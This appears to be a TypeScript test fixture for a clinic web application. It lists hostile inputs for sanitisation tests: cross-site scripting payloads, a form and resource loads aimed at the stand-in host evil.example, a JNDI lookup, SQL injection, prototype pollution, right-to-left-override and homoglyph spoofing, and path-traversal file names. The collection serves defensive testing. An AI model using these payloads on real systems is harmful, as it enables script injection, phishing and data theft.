/**
 * Texts that somebody sends who wishes the clinic no good: each tries to become more than text in one more way.
 *
 * Every script calls the function that the watch over a page listens for, or opens a dialog, or asks another host:
 * whatever runs is seen. Kinds after OWASP's cross-site scripting and Unicode (UTS 39, UAX 9) guidance; the strings
 * are our own.
 */
const RUN = '__ran';
const ELSEWHERE = 'https://evil.example';

const MARKUP = [
  `<script>${RUN}('script')</script>`,
  `<SCRIPT SRC="${ELSEWHERE}/x.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}('nested')</scr</script>ipt>`,
  `</script><script>${RUN}('closes the page’s own')</script>`,
  `</title><script>${RUN}('title')</script>`,
  `</textarea><script>${RUN}('textarea')</script>`,
  `</style><script>${RUN}('style')</script>`,
  `--><script>${RUN}('comment')</script><!--`,
  `]]><script>${RUN}('cdata')</script>`,
  `<img src=x onerror="${RUN}('img')">`,
  `<img src=x onerror=${RUN}(/unquoted/)>`,
  `<img/src=x/onerror=${RUN}\`slashes\`>`,
  `<IMG SRC="jav&#x09;ascript:${RUN}('tab');">`,
  `<img src="${ELSEWHERE}/pixel.gif">`,
  `<image src=x onerror=${RUN}('image')>`,
  `"><img src=x onerror=${RUN}('breaks out of an attribute')>`,
  `' onmouseover='${RUN}("single quote")`,
  `" autofocus onfocus="${RUN}('attribute')`,
  `<body onload=${RUN}('body')>`,
  `<input autofocus onfocus=${RUN}('focus')>`,
  `<select autofocus onfocus=${RUN}('select')>`,
  `<textarea autofocus onfocus=${RUN}('textarea')>`,
  `<details open ontoggle=${RUN}('details')>`,
  `<video><source onerror="${RUN}('source')"></video>`,
  `<audio src=x onerror=${RUN}('audio')>`,
  `<marquee onstart=${RUN}('marquee')>olá</marquee>`,
  `<iframe src="javascript:${RUN}('iframe')"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}('srcdoc')</script>"></iframe>`,
  `<object data="javascript:${RUN}('object')"></object>`,
  `<embed src="javascript:${RUN}('embed')">`,
  `<form action="${ELSEWHERE}"><input name=cpf><button>Enviar</button></form>`,
  `<button formaction="javascript:${RUN}('formaction')">Confirmar</button>`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
  `<style>@import '${ELSEWHERE}/x.css';</style>`,
  `<style>*{display:none !important}</style>`,
  `<div style="position:fixed;inset:0;background:url(${ELSEWHERE}/bg)">tudo</div>`,
  `<div style="width:expression(${RUN}('expression'))">`,
  `<template><script>${RUN}('template')</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}('noscript')>">`,
  `<math><mtext></p><img src=x onerror=${RUN}('math')></mtext></math>`,
] as const;

const DRAWINGS = [
  `<svg onload=${RUN}('svg')>`,
  `<svg/onload=${RUN}('svg slash')>`,
  `<svg><script>${RUN}('svg script')</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}('svg href')"/></svg>`,
  `<svg><animate onbegin=${RUN}('animate') attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}('svg link')"><text>clique</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}('foreign')></foreignObject></svg>`,
  `<svg><use href="${ELSEWHERE}/x.svg#x"/></svg>`,
] as const;

const LINKS = [
  `javascript:${RUN}('link')`,
  `JaVaScRiPt:${RUN}('case')`,
  `java\tscript:${RUN}('tab')`,
  `data:text/html,<script>${RUN}('data')</script>`,
  `vbscript:msgbox("oi")`,
  `<a href="javascript:${RUN}('anchor')">resultado do exame</a>`,
  `<a href="${ELSEWHERE}" target=_blank>portal da clínica</a>`,
  `[resultado](javascript:${RUN}('markdown'))`,
  `![foto](${ELSEWHERE}/markdown.png)`,
] as const;

const TEMPLATES = [
  `{{constructor.constructor('${RUN}(1)')()}}`,
  `\${${RUN}('template literal')}`,
  `{@html '<img src=x onerror=${RUN}(1)>'}`,
  `{#if true}{patientName}{/if}`,
  `%3Cscript%3E${RUN}('encoded')%3C/script%3E`,
  `&lt;script&gt;${RUN}('entities')&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}('escaped')\\u003c/script\\u003e`,
  `'; drop table messages; --`,
  `\${jndi:ldap://evil.example/a}`,
  `{"__proto__":{"isAdmin":true}}`,
] as const;

const LETTERS = [
  // Right-to-left override: the file name that reads as a picture.
  'exame\u202Egnp.exe',
  '\u202Eodatluser\u202C depois',
  '\u2066isolado\u2069 e \u2067avesso\u2069',
  'عاجل: اتصل بي الآن 192',
  'a\u200Bb\u200Cc\u200Dd\uFEFFe',
  '\u200B\u200B\u200B',
  'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C\u030D'.repeat(20),
  '👩‍⚕️👨‍👩‍👧‍👦🇧🇷🏳️‍🌈',
  '\u2028nova\u2029linha',
  'sino\u0007 escape\u001B[31m vermelho\u001B[0m',
  // Half of a pair of surrogates: no letter at all.
  'quebrado \uD83D aqui',
  '\uDE00 ao contrário',
  'nulo\u0000no meio',
  'раураl.com não é paypal.com',
  'tudo\r\nem\r\nlinhas',
] as const;

/** Short texts, each a danger of its own kind. */
export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...DRAWINGS, ...LINKS, ...TEMPLATES, ...LETTERS];

/** As long as a channel's webhook may be, almost: 1 MB that starts with markup. */
export const longText = (bytes: number): string => {
  const start = `<img src=x onerror=${RUN}('long')> `;
  return start + 'dor '.repeat(Math.floor((bytes - start.length) / 4));
};

/** Names of files as somebody might call them who hopes that a page pastes them into its markup. */
export const HOSTILE_FILE_NAMES: readonly string[] = [
  `"><img src=x onerror=${RUN}('file')>.pdf`,
  `<svg onload=${RUN}('file svg')>.pdf`,
  'exame\u202Efdp.exe.pdf',
  '../../../etc/passwd.pdf',
  `javascript:${RUN}('file link').pdf`,
];

/**
 * What may be shown of a text: PostgreSQL knows no NUL, and half a pair of surrogates is no letter, so both become the
 * sign that stands for "something unreadable".
 */
export const shownAs = (text: string): string => text.replaceAll('\0', '\uFFFD').toWellFormed();
